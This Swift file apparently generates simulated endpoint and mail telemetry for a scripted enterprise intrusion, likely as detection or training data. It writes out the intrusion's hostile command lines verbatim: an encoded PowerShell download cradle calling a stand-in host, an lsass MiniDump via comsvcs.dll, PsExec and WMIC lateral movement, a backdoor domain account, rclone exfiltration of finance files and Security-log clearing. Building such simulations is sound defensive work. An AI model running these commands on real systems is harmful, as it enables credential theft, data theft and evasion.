/// The attack that is woven into the ordinary days, step by step as an intrusion of its kind goes:
/// a mail with a macro document → encoded PowerShell → a dump of lsass → PsExec and WMI to a file server and a domain
/// controller → finance files packed and sent out.
///
/// Names end in `.example`, addresses are documentation addresses, and the payload of the encoded command is a download
/// from such a name: nothing here can be run to any effect.
struct AttackStory {
    let patientZero: Enterprise.Device
    let fileServer: Enterprise.Device
    let domainController: Enterprise.Device
    let administrator: Enterprise.Person
    /// When the mail is opened, in ticks.
    let begin: Int64

    private static let commandServer = (host: "cdn.invoice-portal.example", address: "203.0.113.77")
    private static let dropServer = (host: "eu-2.bulk-storage.example", address: "203.0.113.140")
    private static let payload =
        #"IEX (New-Object Net.WebClient).DownloadString('https://cdn.invoice-portal.example/u/7f3a')"#

    /// Which machines the story touches; their events must go through `run`.
    var devices: [Enterprise.Device] { [patientZero, fileServer, domainController] }

    /// Plays the whole story.
    ///
    /// - Parameters:
    ///   - machines: The running machines by device id; those of `devices` are among them.
    ///   - mail: Takes the events of the mail system, which belong to no machine.
    func run(machines: inout [String: Machine], mail: EventSink) {
        deliverMail(to: mail)
        modify(&machines, patientZero) { machine in openDocument(on: &machine) }
        modify(&machines, patientZero) { machine in persistAndLookAround(on: &machine) }
        modify(&machines, patientZero) { machine in dumpCredentials(on: &machine) }
        modify(&machines, patientZero) { machine in reachOut(from: &machine) }
        modify(&machines, fileServer) { machine in arriveByService(on: &machine) }
        modify(&machines, domainController) { machine in arriveByManagementInstrumentation(on: &machine) }
        modify(&machines, fileServer) { machine in takeFiles(on: &machine) }
    }

    private func modify(
        _ machines: inout [String: Machine], _ device: Enterprise.Device, _ step: (inout Machine) -> Void
    ) {
        guard var machine = machines[device.id] else { return }
        step(&machine)
        machines[device.id] = machine
    }

    private func at(minute: Int64, second: Int64 = 0) -> Int64 { begin + minute * Ticks.minute + second * Ticks.second }

    // MARK: Initial access

    private func deliverMail(to mail: EventSink) {
        guard let victim = patientZero.owner else { return }
        let message = Enterprise.hexadecimal(of: "message \(begin)", digits: 32)
        mail(
            SimulatedEvent(
                table: "EmailEvents", timestamp: at(minute: -38),
                cells: [
                    ("NetworkMessageId", .text(message)),
                    ("InternetMessageId", .text("<\(message)@invoice-portal.example>")),
                    ("SenderMailFromAddress", "billing@invoice-portal.example"),
                    ("SenderFromAddress", "billing@invoice-portal.example"),
                    ("SenderDisplayName", "Invoice Portal"), ("SenderFromDomain", "invoice-portal.example"),
                    ("SenderMailFromDomain", "invoice-portal.example"), ("SenderIPv4", "203.0.113.21"),
                    ("RecipientEmailAddress", .text(victim.address)), ("RecipientObjectId", .text(victim.objectID)),
                    ("Subject", "Overdue invoice 88213 - action required"), ("EmailDirection", "Inbound"),
                    ("DeliveryAction", "Delivered"),
                    ("DeliveryLocation", "Inbox/folder"), ("AttachmentCount", 1), ("UrlCount", 0),
                ]))
        mail(
            SimulatedEvent(
                table: "EmailAttachmentInfo", timestamp: at(minute: -38),
                cells: [
                    ("NetworkMessageId", .text(message)), ("SenderFromAddress", "billing@invoice-portal.example"),
                    ("RecipientEmailAddress", .text(victim.address)), ("FileName", "Invoice_88213.docm"),
                    ("FileType", "Word"),
                    ("SHA256", .text(Enterprise.hexadecimal(of: "Invoice_88213.docm", digits: 64))),
                    ("FileSize", 81_920),
                ]))
    }

    private func openDocument(on machine: inout Machine) {
        guard let outlook = program("OUTLOOK.EXE"), let word = program("WINWORD.EXE") else { return }
        let mailClient = machine.start(outlook, at: at(minute: -2))
        let document = machine.fill(
            #"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2QZL1M\Invoice_88213.docm"#)
        machine.write(
            document, at: at(minute: 0), by: mailClient, size: 81_920,
            additional: [
                ("FileOriginReferrerUrl", "billing@invoice-portal.example")
            ])
        let editor = machine.start(
            word, at: at(minute: 0, second: 3), commandLine: #""WINWORD.EXE" /n "\#(document)" /o """#,
            parent: mailClient)
        let stager = machine.start(
            shell(parent: "WINWORD.EXE"), at: at(minute: 0, second: 41),
            commandLine: "powershell.exe -nop -w hidden -enc \(Self.encoded(Self.payload))", parent: editor,
            account: machine.account(of: word))
        machine.report(
            "DeviceEvents", "DnsQueryResponse", at: at(minute: 0, second: 43), by: stager,
            [
                (
                    "AdditionalFields",
                    .text(
                        #"{"DnsQueryString":"\#(Self.commandServer.host)","DnsQueryResult":[{"DnsQueryType":"A","Result":"\#(Self.commandServer.address)"}]}"#
                    )
                )
            ])
        machine.connect(
            to: Self.commandServer.host, address: Self.commandServer.address, at: at(minute: 0, second: 44), by: stager)
        machine.report(
            "DeviceEvents", "PowerShellCommand", at: at(minute: 0, second: 44), by: stager,
            [
                ("AdditionalFields", #"{"Command":"Invoke-Expression"}"#)
            ])
        machine.write(
            machine.fill(#"C:\Users\{user}\AppData\Local\Temp\svcupd.exe"#), at: at(minute: 1, second: 9), by: stager,
            size: 412_160)
    }

    // MARK: Persistence and discovery

    private func persistAndLookAround(on machine: inout Machine) {
        guard let stager = machine.running["powershell.exe"] else { return }
        let path = machine.fill(#"C:\Users\{user}\AppData\Local\Temp"#)
        let implant = Program(
            "svcupd.exe", in: path, by: "", product: "", commandLines: [#""svcupd.exe" -s"#], as: .owner,
            parent: "powershell.exe", weight: 0)
        let running = machine.start(implant, at: at(minute: 1, second: 20), parent: stager)
        machine.setValue(
            "ServiceUpdate",
            of:
                #"HKEY_CURRENT_USER\\#(machine.account(of: implant).sid)\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"#,
            to: #""\#(path)\svcupd.exe" -s"#, at: at(minute: 1, second: 31), by: running)
        for (index, command) in [
            "whoami.exe /all", #"net.exe group "Domain Admins" /domain"#, "nltest.exe /dclist:contoso.example",
            "net.exe view /all",
        ].enumerated() {
            let name = String(command.prefix { $0 != " " })
            let tool = Program(
                name, in: #"C:\Windows\System32"#, commandLines: [command], as: .owner, parent: "svcupd.exe", weight: 0)
            machine.start(tool, at: at(minute: 4, second: Int64(index) * 17), parent: running)
        }
        for beacon in Int64(0)..<40 {
            machine.connect(
                to: Self.commandServer.host, address: Self.commandServer.address,
                at: at(minute: 2 + beacon * 3, second: beacon % 7), by: running)
        }
    }

    // MARK: Credential access

    private func dumpCredentials(on machine: inout Machine) {
        guard let implant = machine.running["svcupd.exe"], let lsass = machine.running["lsass.exe"] else { return }
        let path = machine.fill(#"C:\Users\{user}\AppData\Local\Temp\upd.bin"#)
        let dumper = Program(
            "rundll32.exe", in: #"C:\Windows\System32"#, commandLines: [""], as: .system, parent: "svcupd.exe",
            weight: 0)
        let process = machine.start(
            dumper, at: at(minute: 21),
            commandLine: #"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump \#(lsass.id) \#(path) full"#,
            parent: implant, account: .system)
        machine.report(
            "DeviceEvents", "OpenProcessApiCall", at: at(minute: 21, second: 1), by: process,
            [
                ("FileName", "lsass.exe"), ("FolderPath", #"C:\Windows\System32\lsass.exe"#),
                ("ProcessId", .number(lsass.id)),
                ("ProcessCreationTime", .time(lsass.started)), ("AdditionalFields", #"{"DesiredAccess":2097151}"#),
            ])
        machine.write(path, at: at(minute: 21, second: 3), by: process, size: 58_720_256)
    }

    // MARK: Lateral movement

    private func reachOut(from machine: inout Machine) {
        guard let implant = machine.running["svcupd.exe"] else { return }
        let tool = Program(
            "PsExec64.exe", in: machine.fill(#"C:\Users\{user}\AppData\Local\Temp"#),
            by: "Sysinternals - www.sysinternals.com",
            product: "Sysinternals PsExec", commandLines: [""], as: .owner, parent: "svcupd.exe", weight: 0)
        let remote = machine.start(
            tool, at: at(minute: 46), commandLine: #"PsExec64.exe \\fs-01 -accepteula -s -d cmd.exe"#, parent: implant)
        machine.connect(
            to: fileServer.name, address: fileServer.address, port: 445, at: at(minute: 46, second: 1), by: remote)
        let console = Program(
            "WMIC.exe", in: #"C:\Windows\System32\wbem"#, commandLines: [""], as: .owner, parent: "svcupd.exe",
            weight: 0)
        let wmic = machine.start(
            console, at: at(minute: 63),
            commandLine:
                #"wmic.exe /node:dc-01 /user:contoso\adm-lwestin process call create "powershell.exe -nop -w hidden -enc \#(Self.encoded(Self.payload))""#,
            parent: implant)
        machine.connect(
            to: domainController.name, address: domainController.address, port: 135, at: at(minute: 63, second: 1),
            by: wmic)
    }

    private func arriveByService(on machine: inout Machine) {
        logOn(to: &machine, at: at(minute: 46, second: 2))
        machine.report(
            "DeviceEvents", "NetworkShareObjectAccessChecked", at: at(minute: 46, second: 2), by: nil,
            [
                ("AccountDomain", .text(Enterprise.accountDomain)), ("AccountName", .text(administrator.account)),
                ("RemoteIP", .text(patientZero.address)), ("FileName", "PSEXESVC.exe"),
                ("AdditionalFields", #"{"ShareName":"\\\\*\\ADMIN$","RelativeTargetName":"PSEXESVC.exe"}"#),
            ])
        machine.report(
            "DeviceEvents", "ServiceInstalled", at: at(minute: 46, second: 3), by: machine.running["services.exe"],
            [
                ("FileName", "PSEXESVC.exe"), ("FolderPath", #"C:\Windows\PSEXESVC.exe"#),
                (
                    "AdditionalFields",
                    #"{"ServiceName":"PSEXESVC","ServiceFileName":"%SystemRoot%\\PSEXESVC.exe","ServiceAccount":"LocalSystem","ServiceType":16,"ServiceStartType":3}"#
                ),
            ])
        let service = Program(
            "PSEXESVC.exe", in: #"C:\Windows"#, by: "Sysinternals - www.sysinternals.com",
            product: "Sysinternals PsExec",
            commandLines: [#"C:\Windows\PSEXESVC.exe"#], as: .system, parent: "services.exe", weight: 0)
        let agent = machine.start(service, at: at(minute: 46, second: 4))
        let prompt = Program(
            "cmd.exe", in: #"C:\Windows\System32"#, commandLines: [#""cmd.exe""#], as: .system, parent: "PSEXESVC.exe",
            weight: 0)
        machine.start(prompt, at: at(minute: 46, second: 5), parent: agent)
    }

    private func arriveByManagementInstrumentation(on machine: inout Machine) {
        logOn(to: &machine, at: at(minute: 63, second: 2))
        guard let provider = program("WmiPrvSE.exe") else { return }
        let host = machine.start(provider, at: at(minute: 63, second: 2))
        let account = AccountName(administrator, logonID: 0x5A_71C3)
        let stager = machine.start(
            shell(parent: "WmiPrvSE.exe"), at: at(minute: 63, second: 3),
            commandLine: "powershell.exe -nop -w hidden -enc \(Self.encoded(Self.payload))", parent: host,
            account: account)
        machine.connect(
            to: Self.commandServer.host, address: Self.commandServer.address, at: at(minute: 63, second: 6), by: stager)
        let tool = Program(
            "net.exe", in: #"C:\Windows\System32"#, commandLines: [""], as: .owner, parent: "powershell.exe", weight: 0)
        machine.start(
            tool, at: at(minute: 66), commandLine: "net.exe user svc-sync Fj2!k9Lw /add /domain", parent: stager,
            account: account)
        let sid = administrator.sid.replacing(/-\d+$/, with: "-1190")
        for (action, second, fields) in [
            ("UserAccountCreated", Int64(1), "{}"),
            (
                "UserAccountAddedToLocalGroup", 9,
                #"{"GroupName":"Administrators","GroupDomainName":"Builtin","GroupSid":"S-1-5-32-544","GroupScope":"Local"}"#
            ),
        ] {
            machine.report(
                "DeviceEvents", action, at: at(minute: 66, second: second), by: stager,
                [
                    ("AccountDomain", .text(Enterprise.accountDomain)), ("AccountName", "svc-sync"),
                    ("AccountSid", .text(sid)),
                    ("AdditionalFields", .text(fields)),
                ])
        }
        machine.report(
            "DeviceEvents", "ScheduledTaskCreated", at: at(minute: 71), by: stager,
            [
                (
                    "AdditionalFields",
                    #"{"TaskName":"\\Microsoft\\Windows\\Maintenance\\SvcSync","TaskContent":"<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -File C:\\ProgramData\\svc\\sync.ps1</Arguments></Exec></Actions></Task>"}"#
                )
            ])
    }

    private func logOn(to machine: inout Machine, at time: Int64) {
        machine.report(
            "DeviceLogonEvents", "LogonSuccess", at: time, by: machine.running["lsass.exe"],
            [
                ("LogonType", "Network"), ("AccountDomain", .text(Enterprise.accountDomain)),
                ("AccountName", .text(administrator.account)),
                ("AccountSid", .text(administrator.sid)), ("LogonId", 0x5A_71C3), ("Protocol", "NTLM"),
                ("IsLocalAdmin", true),
                ("RemoteIP", .text(patientZero.address)), ("RemoteIPType", "Private"),
                ("RemoteDeviceName", .text(String(patientZero.name.prefix { $0 != "." }))),
            ])
    }

    // MARK: Collection and exfiltration

    private func takeFiles(on machine: inout Machine) {
        guard let prompt = machine.running["cmd.exe"] else { return }
        let packer = Program(
            "7z.exe", in: #"C:\ProgramData\svc"#, by: "Igor Pavlov", product: "7-Zip", commandLines: [""], as: .system,
            parent: "cmd.exe", weight: 0)
        let packing = machine.start(
            packer, at: at(minute: 94),
            commandLine: #"7z.exe a -t7z -mhe=on -pR3dKite C:\ProgramData\svc\fin.7z D:\Shares\Finance\*"#,
            parent: prompt, account: .system)
        machine.write(#"C:\ProgramData\svc\fin.7z"#, at: at(minute: 97), by: packing, size: 1_932_735_283)
        let sender = Program(
            "rclone.exe", in: #"C:\ProgramData\svc"#, by: "https://rclone.org", product: "Rclone", commandLines: [""],
            as: .system,
            parent: "cmd.exe", weight: 0)
        let sending = machine.start(
            sender, at: at(minute: 101),
            commandLine:
                #"rclone.exe copy C:\ProgramData\svc\fin.7z drop:bulk-7f3a --config C:\ProgramData\svc\r.conf --no-check-certificate"#,
            parent: prompt, account: .system)
        for transfer in Int64(0)..<24 {
            machine.connect(
                to: Self.dropServer.host, address: Self.dropServer.address,
                at: at(minute: 101 + transfer / 2, second: 4 + (transfer % 2) * 30), by: sending)
        }
        machine.write(#"C:\ProgramData\svc\fin.7z"#, at: at(minute: 118), by: prompt, actionType: "FileDeleted")
        let cleaner = Program(
            "wevtutil.exe", in: #"C:\Windows\System32"#, commandLines: [""], as: .system, parent: "cmd.exe", weight: 0)
        let clearing = machine.start(
            cleaner, at: at(minute: 119), commandLine: "wevtutil.exe cl Security", parent: prompt, account: .system)
        machine.report("DeviceEvents", "SecurityLogCleared", at: at(minute: 119, second: 1), by: clearing, [])
    }

    private func program(_ fileName: String) -> Program? {
        (Program.common + Program.officeWork + Program.serverWork).first { $0.fileName == fileName }
    }

    private func shell(parent: String) -> Program {
        Program(
            "powershell.exe", in: #"C:\Windows\System32\WindowsPowerShell\v1.0"#, commandLines: [""], as: .owner,
            parent: parent, weight: 0)
    }

    /// What `-EncodedCommand` takes: base64 of UTF-16, little-endian.
    static func encoded(_ command: String) -> String {
        let bytes = command.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".utf8)
        var text: [UInt8] = []
        for start in stride(from: 0, to: bytes.count, by: 3) {
            let chunk = bytes[start..<min(start + 3, bytes.count)]
            let word = chunk.enumerated().reduce(0) { $0 | Int($1.element) << (16 - 8 * $1.offset) }
            for position in 0..<4 {
                text.append(position <= chunk.count ? alphabet[word >> (18 - 6 * position) & 63] : UInt8(ascii: "="))
            }
        }
        return String(decoding: text, as: UTF8.self)
    }
}
